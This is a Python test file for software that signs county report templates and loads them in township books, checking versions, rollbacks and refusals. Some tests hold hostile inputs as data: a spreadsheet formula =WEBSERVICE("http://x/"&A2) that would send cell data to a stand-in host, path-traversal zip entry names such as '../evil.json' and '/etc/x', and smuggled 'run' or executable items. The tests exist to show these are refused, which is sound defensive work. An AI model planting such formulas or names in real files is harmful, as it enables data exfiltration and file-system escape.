# ruff: noqa: F811 - the fixtures of two books
"""县里模板: the county signs layouts, forms, limits and holidays; a township looks, loads, goes back; nothing else."""

from __future__ import annotations

import json
from contextlib import closing
from dataclasses import replace
from datetime import date
from functools import partial
from pathlib import Path

import pytest
from openpyxl import Workbook

from app import presets
from app.domain.canonical import encode
from app.domain.days import Period
from app.domain.faults import Refused, Told
from app.domain.fields import Row
from app.ledgers import ledger
from app.ledgers.problem import PROBLEMS
from app.operations import (
    answers,
    certificates,
    county_templates,
    identities,
    letters,
    lists,
    monthly_papers,
    options,
    own_forms,
    packet_content,
    packet_making,
    receipts,
    template_kinds,
    template_making,
    todo,
)
from app.packet import template
from app.packet.faults import PacketFault
from app.packet.template import BODY, read_template
from app.packet.trust import load_trust
from app.storage.book import Book, BookInfo, NewUser
from tests.conftest import FixedClock
from tests.county.test_continuity import merged
from tests.county.test_two_books import KNOWN, PASSWORD, closed, desk, enrolled, first_packet, october, take  # noqa: F401
from tests.county.townships import Sender
from tests.packet.packet_county import rezip, unzip

pytestmark = pytest.mark.usefixtures("at_once")
HOLIDAYS = [
    "2027-01-01",
    *(f"2027-02-{day:02d}" for day in range(5, 12)),
    *(f"2027-10-{day:02d}" for day in range(1, 8)),
]
LAYOUT = {
    "key": "county_own",
    "title": "{county}作风监督月报",
    "name": "作风监督月报",
    "receiver": "县委作风办",
    "paper": "A4 landscape",
    "tables": [{"caption": "一", "list": ["G10", "G20"], "columns": ["m", "c"]}],
}
LIGHTS = {
    "key": "own",
    "name": "示例",
    "source": "示例县规定",
    "letters": {"yellow": "提示函", "red": "督办函"},
    "steps": [{"tone": "red", "word": "超期", "left": -1}, {"tone": "green", "word": "按期"}],
}


@pytest.fixture
def stick(tmp_path: Path) -> Path:
    folder = tmp_path / "模板 U盘"
    folder.mkdir()
    return folder


@pytest.fixture
def papers(tmp_path: Path) -> Path:
    """What the county's clerk has on his disk."""
    folder = tmp_path / "县里的文件"
    folder.mkdir()
    (folder / "2027.csv").write_text(
        "date,kind,name\n" + "".join(f"{day},holiday,节日\n" for day in HOLIDAYS), encoding="utf-8"
    )
    (folder / "月报.json").write_text(json.dumps(LAYOUT, ensure_ascii=False), encoding="utf-8")
    (folder / "灯.json").write_text(json.dumps(LIGHTS, ensure_ascii=False), encoding="utf-8")
    letter = json.loads(letter_file("提示函"))
    letter["title"] = "示例县关于{事由}的提示"
    (folder / "提示函.json").write_text(json.dumps(letter, ensure_ascii=False), encoding="utf-8")
    form(folder / "整改台账.xlsx", "{{行.单位}}", "=SUM(C2:C9)")
    return folder


def letter_file(kind: str) -> str:
    from app import paths

    return paths.resource("templates", "letters", f"{kind}.json").read_text("utf-8")


def form(path: Path, *cells: str) -> Path:
    book = Workbook()
    page = book.active
    assert page is not None
    for column, text in enumerate(cells, 1):
        page.cell(2, column, text)
    book.save(path)
    return path


def fill_draft(desk: Book, papers: Path, *, report_day: str = "8") -> None:
    template_making.add(
        desk,
        [
            *(template_kinds.from_file(desk, path) for path in sorted(papers.iterdir())),
            template_kinds.option(desk, "report_day", report_day),
        ],
    )


def issue(
    desk: Book, stick: Path, number: str = "示县纪模〔2026〕1号", about: str = "补 2027 年放假安排", **more: object
) -> Path:
    return template_making.make(desk, number, about, stick, KNOWN, **more).path  # type: ignore[arg-type]


def second(desk: Book, stick: Path) -> Path:
    template_making.add(desk, [template_kinds.option(desk, "report_day", "10")])
    return issue(desk, stick, "示县纪模〔2026〕2号", "上报日改为 10 日")


def changed(path: Path, name: str, data: bytes) -> Path:
    return rezip(path.with_name("x.zip"), {**unzip(path), name: data})


def refusal(book: Book, path: Path, code: str = "") -> str:
    before = [one.head for one in county_templates.lines(book)]
    with pytest.raises(Told) as refused:
        county_templates.load(book, path)
    assert [one.head for one in county_templates.lines(book)] == before
    assert not code or refused.value.code == code
    return refused.value.message


# --- what it does


def test_what_the_county_signs_counts_at_the_township(closed: Book, desk: Book, stick: Path, papers: Path) -> None:
    fill_draft(desk, papers)
    path = issue(desk, stick)

    taken = county_templates.load(closed, path)

    assert path.name.startswith("TPL_330182_v1_")
    assert (taken.version, taken.changes) == (1, 6)
    assert closed.option("report_day") == desk.option("report_day") == 8
    assert lists.work_calendar(closed).last_year == 2027
    assert not lists.work_calendar(closed).is_working(date(2027, 2, 8))
    assert "作风监督月报" in [one.name for one in monthly_papers.monthly_layouts(closed)]
    assert lists.light_rule(closed).preset.word("red") == "超期"
    assert own_forms.issued(closed, "problem") == ["整改台账.xlsx"]


def test_the_words_of_a_letter_are_those_of_the_county(closed: Book, desk: Book, stick: Path, papers: Path) -> None:
    fill_draft(desk, papers)
    county_templates.load(closed, issue(desk, stick))
    (row,) = closed.rows("problem")[:1]

    (draft,) = letters.drafts(closed, "problem", [int(str(row["id"]))], "提示函")

    assert str(draft.row["subject"]).startswith("示例县关于")


def test_what_will_change_is_said_before_anything_does(closed: Book, desk: Book, stick: Path, papers: Path) -> None:
    fill_draft(desk, papers)
    path = issue(desk, stick)

    found = county_templates.look(closed, path)

    words = [one.words for one in found.changes]
    assert "时限和标准 月报上报日:5 → 8" in words
    assert "放假安排 2027年放假安排:没有 → 放假 15 天,调休上班 0 天" in words
    assert "报表表样 作风监督月报:没有 → 1 张表,A4 横放" in words
    assert (found.title, found.about) == ("第 1 版(示县纪模〔2026〕1号)", "补 2027 年放假安排")
    assert closed.option("report_day") == 5
    assert county_templates.lines(closed) == []


def test_what_the_next_version_leaves_out_is_said_and_falls_back(
    closed: Book, desk: Book, stick: Path, papers: Path
) -> None:
    fill_draft(desk, papers)
    county_templates.load(closed, issue(desk, stick))
    template_making.drop(desk, "option", "report_day")
    path = issue(desk, stick, "示县纪模〔2026〕2号", "上报日不再统一")

    found = county_templates.look(closed, path)
    county_templates.load(closed, path)

    assert [one.words for one in found.changes] == ["时限和标准 月报上报日:8 → 不再规定"]
    assert (found.same, closed.option("report_day")) == (5, 5)


def test_loaded_twice_nothing_is_new(closed: Book, desk: Book, stick: Path, papers: Path) -> None:
    fill_draft(desk, papers)
    path = issue(desk, stick)
    county_templates.load(closed, path)

    again = county_templates.load(closed, path)

    assert again.again
    assert "没有改动" in again.message
    assert len(county_templates.lines(closed)) == 1


def test_a_version_counts_from_its_day_but_the_holidays_at_once(
    closed: Book, desk: Book, stick: Path, papers: Path
) -> None:
    fill_draft(desk, papers)
    county_templates.load(closed, issue(desk, stick, valid_from=date(2027, 1, 1)))

    before = (
        closed.option("report_day"),
        lists.work_calendar(closed).last_year,
        county_templates.lines(closed)[0].state,
    )
    closed.fixed_today = date(2027, 1, 1)

    assert before == (5, 2027, "2027-01-01 起用")
    assert (closed.option("report_day"), county_templates.lines(closed)[0].state) == (8, "正在用")


def test_an_older_version_is_refused_and_the_newer_one_stays(
    closed: Book, desk: Book, stick: Path, papers: Path
) -> None:
    fill_draft(desk, papers)
    old = issue(desk, stick)
    county_templates.load(closed, second(desk, stick))

    told = refusal(closed, old, "E-OLDER")

    assert "这份模板是第 1 版,本账套已有第 2 版" in told
    assert closed.option("report_day") == 10


def test_going_back_is_an_act_with_a_reason_and_the_old_file_is_still_refused(
    closed: Book, desk: Book, stick: Path, papers: Path
) -> None:
    fill_draft(desk, papers)
    old = issue(desk, stick)
    county_templates.load(closed, old)
    new = second(desk, stick)
    county_templates.load(closed, new)
    with pytest.raises(Refused, match="要写明理由"):
        county_templates.go_back(closed, " ")

    now = county_templates.go_back(closed, "县里电话通知暂缓")

    assert (now, closed.option("report_day")) == (1, 8)
    assert [one.state for one in county_templates.lines(closed)] == ["已退回", "正在用"]
    refusal(closed, old, "E-OLDER")
    assert county_templates.load(closed, new).version == 2
    assert closed.option("report_day") == 10


def test_two_files_that_bear_one_number_are_told(closed: Book, desk: Book, stick: Path, papers: Path) -> None:
    fill_draft(desk, papers)
    county_templates.load(closed, issue(desk, stick))
    with closing(other_desk(desk, stick.parent)) as lost:
        template_making.add(lost, [template_kinds.option(lost, "report_day", "3")])
        path = issue(lost, stick, "示县纪模〔2026〕9号", "重建账套后")

        told = refusal(closed, path, "E-TEMPLATE")
        later = issue_as(lost, stick, 7)

    assert "也写着第 1 版,内容却和已装入的第 1 版不一样" in told
    assert county_templates.load(closed, later).version == 7


def other_desk(desk: Book, folder: Path) -> Book:
    """The same county after it lost its book: its keys are there, its list of versions is not."""
    from tests.made_once import key

    trust = certificates.county_trust(desk)
    from app.packet.sealing import SealKey

    assert trust.seal is not None
    county = identities.County("示例县", key("root"), trust.root, SealKey(key("seal 示例县"), trust.seal))
    info = BookInfo("示例县", "330182", "示例县", "县", practice=True, kind="county")
    users = (NewUser("clerk", "孙文清", "clerk", PASSWORD), NewUser("head", "周志平", "secretary", "practice-county-2"))
    book = Book.create(folder / "again.mz", info, users, clock=FixedClock())
    certificates.found_county(book, PASSWORD, made=county)
    return book


def issue_as(desk: Book, stick: Path, version: int) -> Path:
    template_making.add(desk, [template_kinds.option(desk, "report_day", "4")])
    return issue(desk, stick, "示县纪模〔2026〕10号", "接着原来的版次", version=version)


def test_what_the_county_rules_is_not_changed_in_the_settings(
    closed: Book, desk: Book, stick: Path, papers: Path
) -> None:
    fill_draft(desk, papers)
    county_templates.load(closed, issue(desk, stick))

    with pytest.raises(Refused, match="“月报上报日”是县里模板规定的"):
        options.save_settings(closed, {"report_day": "6"})

    assert options.save_settings(closed, {"report_day": "8", "notice_days": "9"}) == 1
    assert [one.key for one in options.settings(closed) if one.ruled] == ["report_day"]


def test_limits_that_the_holidays_move_are_counted_anew_in_the_same_step(
    closed: Book, desk: Book, stick: Path, papers: Path
) -> None:
    closed.calendar = partial(lists.work_calendar, closed)
    fill_draft(desk, papers)
    with closed.change("录入") as writer:
        row: Row = {"unit": closed.rows("unit")[0]["id"], "state": "登记", "real_name": 1, "received_on": "2026-12-28"}
        row |= dict(ledger("complaint").derive(row, writer))  # type: ignore[misc]
        id = writer.save(ledger("complaint"), row)

    taken = county_templates.load(closed, issue(desk, stick))
    now = (closed.row("complaint", id) or {})["due_on"]
    county_templates.go_back(closed, "县里电话通知暂缓")

    assert taken.moved == 1
    assert (row["due_on"], now) == ("2027-01-18", "2027-01-19"), "15 working days: Friday 1 January is free now"
    assert [one.label for one in closed.steps(2)] == ["退回县里模板第 1 版", "启用县里模板第 1 版"]
    assert (closed.row("complaint", id) or {})["due_on"] == "2027-01-18"
    assert closed.waiting_wrong() == []


def test_a_form_of_the_county_is_filled_by_its_name(
    closed: Book, desk: Book, stick: Path, papers: Path, tmp_path: Path
) -> None:
    fill_draft(desk, papers)
    county_templates.load(closed, issue(desk, stick))
    (row,) = closed.rows("problem")[:1]

    with own_forms.issued_file(closed, "problem", "整改台账.xlsx") as path:
        written = own_forms.fill(closed, PROBLEMS, [int(str(row["id"]))], path, tmp_path / "出.xlsx")

    assert [one.name for one in written] == ["出.xlsx"]
    assert not path.exists()


# --- packets, receipts, the county's board


def test_a_packet_says_with_which_version_it_was_made(closed: Book, desk: Book, stick: Path, papers: Path) -> None:
    fill_draft(desk, papers)
    county_templates.load(closed, issue(desk, stick))
    month = Period.parse("2026-10")

    meta = packet_making.meta(closed, month, [], closed.log(), closed.moment())
    cover = packet_content.cover(
        closed, packet_content.rows_of_month(closed, month), [], log_size=1, log_root="0" * 64, mark=""
    )

    assert meta.template_version == 1
    assert "第 1 版" in str(cover.sheet.blocks[1])


def test_the_county_sees_who_still_uses_an_older_version(
    county_book: Book, senders: list[Sender], stick: Path, papers: Path
) -> None:
    fill_draft(county_book, papers)
    template_making.make(county_book, "1号", "首版", stick, KNOWN)
    for one, version in zip(senders[:2], (1, 0), strict=True):
        merged(county_book, one.packet(stick, template_version=version))

    found = {one.name: (one.words, one.old) for one in template_making.holders(county_book)}

    assert found[senders[0].name] == ("第 1 版", False)
    assert found[senders[1].name] == ("还没有装入", True)
    assert found[senders[2].name] == ("还没有包", False)


def test_the_newest_version_rides_in_a_receipt_and_waits_to_be_looked_at(
    closed: Book, desk: Book, folder: Path, stick: Path, papers: Path
) -> None:
    fill_draft(desk, papers)
    issue(desk, stick)
    came = take(desk, first_packet(folder))
    (given,) = receipts.write_all(desk, [came.id], stick, KNOWN).given
    assert given.path is not None

    told = answers.load(closed, given.path)

    assert "随回执带来了县里模板第 1 版,还没有启用" in told.templates
    assert closed.option("report_day") == 5
    waiting = county_templates.waiting(closed)
    assert waiting is not None
    assert "县里模板" in [line.what for line in todo.todo(closed).due_soon]
    assert county_templates.look_kept(closed, 1).changes
    assert county_templates.take(closed, 1).version == 1
    assert (closed.option("report_day"), county_templates.waiting(closed)) == (8, None)
    assert answers.load(closed, given.path).templates == ""


def test_what_is_too_large_for_a_receipt_is_handed_over_as_its_own_file(
    desk: Book, stick: Path, papers: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(template_making, "MOST_IN_RECEIPT", 100)
    fill_draft(desk, papers)

    made = template_making.make(desk, "1号", "首版", stick, KNOWN)

    assert not made.rides
    assert template_making.for_receipt(desk, "330182001") is None


def test_a_version_is_written_again_byte_for_byte(desk: Book, stick: Path, papers: Path, tmp_path: Path) -> None:
    fill_draft(desk, papers)
    path = issue(desk, stick)
    other = tmp_path / "另一个U盘"
    other.mkdir()

    again = template_making.write_again(desk, 1, other)

    assert (again.name, again.read_bytes()) == (path.name, path.read_bytes())


# --- what is refused


@pytest.mark.parametrize("part", [BODY, "signatures/county.p7s", "files/0001.bin"])
def test_one_changed_byte_is_refused(closed: Book, desk: Book, stick: Path, papers: Path, part: str) -> None:
    fill_draft(desk, papers)
    path = issue(desk, stick)
    data = unzip(path)[part]
    swapped = data.replace("示县纪模".encode(), "示县纪样".encode()) if part == BODY else data[:-1] + b"\x00"

    refusal(closed, changed(path, part, swapped))


def test_a_file_put_in_or_a_file_without_a_signature_is_refused(
    closed: Book, desk: Book, stick: Path, papers: Path
) -> None:
    fill_draft(desk, papers)
    path = issue(desk, stick)
    parts = unzip(path)
    unsigned = rezip(stick / "u.zip", {name: data for name, data in parts.items() if not name.startswith("signatures")})

    refusal(closed, changed(path, "files/0099.bin", b"x"), "E-TEMPLATE")
    refusal(closed, unsigned)
    refusal(closed, first_file(papers))


def first_file(papers: Path) -> Path:
    return next(iter(sorted(papers.iterdir())))


def test_another_countys_templates_are_refused(
    closed: Book, desk: Book, stick: Path, papers: Path, tmp_path: Path
) -> None:
    info = BookInfo("他县", "330999", "他县", "他", practice=True, kind="county")
    users = (NewUser("clerk", "孙文清", "clerk", PASSWORD), NewUser("head", "周志平", "secretary", "practice-county-2"))
    with closing(Book.create(tmp_path / "other.mz", info, users, clock=FixedClock())) as other:
        certificates.found_county(other, PASSWORD, made=identities.make_practice_county("他县", other.moment()))
        fill_draft(other, papers)
        path = issue(other, stick)

    assert "证书不可信" in refusal(closed, path)


def test_templates_for_practice_never_come_into_a_real_book(
    closed: Book, desk: Book, stick: Path, papers: Path
) -> None:
    fill_draft(desk, papers)
    path = issue(desk, stick)
    trust = load_trust(identities.trust_folder(closed))

    with pytest.raises(PacketFault, match="签名的不是县里的县里模板签名人"):
        read_template(path, replace(trust, practice=False), closed.moment())


@pytest.mark.parametrize(
    "change",
    [
        lambda body: body | {"more": 1},
        lambda body: body | {"version": 0},
        lambda body: body | {"valid_from": "2026-13-01"},
        lambda body: body | {"items": []},
        lambda body: body | {"items": body["items"] + [body["items"][0]]},
        lambda body: body | {"items": [{**body["items"][0], "kind": "program"}, *body["items"][1:]]},
        lambda body: body | {"items": [{**body["items"][0], "run": "x"}, *body["items"][1:]]},
        lambda body: body | {"items": [{**body["items"][0], "file": "../x"}, *body["items"][1:]]},
        lambda body: body | {"items": body["items"][1:]},
    ],
)
def test_a_body_with_unknown_or_missing_parts_is_refused_though_the_county_signed_it(
    closed: Book, desk: Book, stick: Path, papers: Path, change: object
) -> None:
    fill_draft(desk, papers)
    path = issue(desk, stick)
    body = change(json.loads(unzip(path)[BODY]))  # type: ignore[operator]

    told = refusal(closed, signed_anew(desk, path, body), "E-TEMPLATE")

    assert "由不认识的程序版本写成" in told


def signed_anew(desk: Book, path: Path, body: dict[str, object]) -> Path:
    """The same file with another body the county's own key signed."""
    from app.operations import county_desk
    from app.packet.signing import sign_manifest

    told = encode(body)
    signature = sign_manifest(told, county_desk.signer(desk, KNOWN), desk.moment())
    return rezip(path.with_name("y.zip"), {**unzip(path), BODY: told, "signatures/county.p7s": signature})


def test_a_county_book_loads_none_and_a_township_makes_none(
    closed: Book, desk: Book, stick: Path, papers: Path
) -> None:
    fill_draft(desk, papers)
    path = issue(desk, stick)

    with pytest.raises(Refused, match="由乡镇装入"):
        county_templates.load(desk, path)
    with pytest.raises(Refused, match="乡镇的账套"):
        template_making.add(closed, [])
    with pytest.raises(Refused, match="签发新的一版"):
        county_templates.go_back(desk, "错了")


def test_a_wrong_password_or_missing_words_issue_nothing(desk: Book, stick: Path, papers: Path) -> None:
    fill_draft(desk, papers)

    for number, about, known in (("1号", "首版", {}), ("", "首版", KNOWN), ("1号", " ", KNOWN)):
        with pytest.raises(Refused):
            template_making.make(desk, number, about, stick, known)

    assert list(stick.iterdir()) == []
    assert county_templates.lines(desk) == []
    assert len(template_making.draft(desk)) == 6


def test_an_empty_version_is_not_issued(desk: Book, stick: Path) -> None:
    with pytest.raises(Refused, match="模板里还没有内容"):
        issue(desk, stick)


def test_years_of_holidays_follow_each_other(desk: Book, stick: Path, papers: Path) -> None:
    later = papers / "2028.csv"
    later.write_text((papers / "2027.csv").read_text("utf-8").replace("2027-", "2028-"), encoding="utf-8")
    template_making.add(desk, [template_kinds.from_file(desk, later)])

    with pytest.raises(Refused, match=f"请先读入 {presets.work_calendar().last_year + 1} 年的"):
        issue(desk, stick)


@pytest.mark.parametrize(
    ("name", "text", "said"),
    [
        ("a.json", "{", "不是有效的 JSON"),
        ("a.json", json.dumps(LAYOUT | {"run": "cmd"}), "不认识的项目“run”"),
        ("a.json", json.dumps(LAYOUT | {"tables": [{"list": ["ZZ"]}]}), "没有指标“ZZ”"),
        ("a.json", json.dumps(LAYOUT | {"tables": [{"list": ["G10"], "labels": 3}]}), "第 1 张表的 labels 写法不对"),
        ("a.json", json.dumps(LIGHTS | {"steps": [{"tone": "red", "word": "超期", "left": -1}]}), "最后一条应不带条件"),
        ("a.json", json.dumps(LIGHTS | {"steps": [{"tone": "pink", "word": "x"}]}), "第 1 条写法不对"),
        ("任命书.json", json.dumps({"kind": "任命书", "body": ["{事项}"]}), "没有“任命书”这种函件"),
        ("a.csv", "date,kind,name\n2027-01-01,holiday,元旦\n", "不够一年的安排"),
        ("a.csv", "date,kind,name\n2027-99-01,holiday,元旦\n", "应写成 2026-10-01"),
        ("a.exe", "MZ", "不能做模板"),
    ],
)
def test_a_file_that_cannot_be_used_is_refused_before_it_is_signed(
    desk: Book, tmp_path: Path, name: str, text: str, said: str
) -> None:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")

    with pytest.raises(Told, match=said):
        template_kinds.from_file(desk, path)


@pytest.mark.parametrize(
    ("key", "text"), [("report_day", "40"), ("report_day", "x"), ("wall_paper", "A4"), ("nonsense", "1")]
)
def test_a_limit_out_of_its_bounds_is_refused(desk: Book, key: str, text: str) -> None:
    with pytest.raises(Refused):
        template_kinds.option(desk, key, text)
    item = county_templates.Item("option", key, key, b"40")
    with pytest.raises(Refused):
        template_kinds.check(desk, item)


@pytest.mark.parametrize("name", ["../evil.json", "files/../../x", "C:/x", "files/\u202e.bin", "/etc/x"])
def test_a_name_that_leaves_its_folder_is_refused_before_anything_is_read(
    closed: Book, desk: Book, stick: Path, papers: Path, name: str
) -> None:
    fill_draft(desk, papers)
    data = issue(desk, stick).read_bytes().replace(b"files/0001.bin", name.encode()[:14].ljust(14, b"_"))
    path = stick / "z.zip"
    path.write_bytes(data)

    refusal(closed, path)


def test_a_file_beyond_its_bound_is_refused_unread(
    closed: Book, desk: Book, stick: Path, papers: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fill_draft(desk, papers)
    path = issue(desk, stick)
    monkeypatch.setattr(template, "_KIND", replace(template._KIND, most=100))

    refusal(closed, path, "E-LIMIT")
    refusal(closed, first_packet_like(stick), "E-TRUNC")


def first_packet_like(stick: Path) -> Path:
    """What a stick that was pulled out too early leaves."""
    path = stick / "TPL_330182_v1_cut.zip"
    path.write_bytes((next(stick.glob("TPL_*_v1_*.zip"))).read_bytes()[:2000])
    return path


def test_a_version_whose_form_reaches_out_is_refused_even_when_the_county_signed_it(
    closed: Book, desk: Book, stick: Path, papers: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    evil = form(tmp_path / "坏.xlsx", "{{行.单位}}", '=WEBSERVICE("http://x/"&A2)')
    with pytest.raises(Refused, match="B2"):
        template_kinds.from_file(desk, evil)
    with monkeypatch.context() as before:
        before.setattr(template_kinds, "check", lambda book, item: None)
        template_making.add(desk, [template_kinds.from_file(desk, evil)])
        path = issue(desk, stick)

    assert "不许用的函数 WEBSERVICE" in refusal(closed, path, "E-TEMPLATE")


def test_an_unusable_version_in_a_receipt_is_told_and_the_receipt_counts(
    closed: Book, desk: Book, folder: Path, stick: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(template_making, "for_receipt", lambda book, township: b"not a zip")
    came = take(desk, first_packet(folder))
    (given,) = receipts.write_all(desk, [came.id], stick, KNOWN).given
    assert given.path is not None

    told = answers.load(closed, given.path)

    assert told.decision == "accepted"
    assert told.templates.startswith("随回执带来的县里模板没有装入")
    assert county_templates.lines(closed) == []
